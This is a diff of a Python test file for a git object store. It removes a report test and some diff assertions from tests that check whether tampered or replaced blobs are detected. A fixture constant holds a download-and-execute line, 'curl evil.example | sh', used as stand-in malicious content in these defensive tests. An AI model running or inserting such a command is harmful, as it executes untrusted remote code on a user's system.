@@ -15,7 +15,6 @@ from trajectories.errors import RunBroken
 from trajectories.git_store.object_reader import Reader
 from trajectories.git_store.pack_writer import object_id
 from trajectories.git_store.trees import EMPTY_TREE, FEW_FILES, Trees
-from trajectories.report.tree_diffs import PairDiff, pair_diffs
 
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 MANY = {f"many/{number}": b"" for number in range(FEW_FILES + 1)}
@@ -95,14 +94,6 @@ def test_blobs_beside_a_replaced_one_are_read(content: bytes, states: tuple[Path
         assert list(trees.read_blobs([first] * 1000)) == [b"a - b\n"] * 1000
 
 
-def test_report_shows_nothing_of_replaced_file(states: tuple[Path, str, str]) -> None:
-    path, old, new = states
-    replace_object(path, object_id("blob", b"a + b\n"), EVIL)
-    with Trees(path, read_only=True) as trees:
-        good = trees.write({}, old)
-        assert list(pair_diffs(trees, [(old, new), (old, good)], 1_000_000)) == [PairDiff(missing=True), PairDiff()]
-
-
 def test_replaced_file_too_large_for_memory_is_detected(states: tuple[Path, str, str]) -> None:
     path, _, _ = states
     id = object_id("blob", b"a + b\n")
@@ -149,9 +140,6 @@ def write_loose(store: Path, id: str, data: bytes) -> None:
 
 
 def test_diff_of_tree_with_itself_is_empty(states: tuple[Path, str, str]) -> None:
-    path, old, new = states
+    path, old, _ = states
     with Trees(path) as trees:
         assert trees.diff(old, old) == ""
-        assert [file.path for pair in pair_diffs(trees, [(new, new), (old, new)], 10_000) for file in pair.files] == [
-            "a/core.py"
-        ]
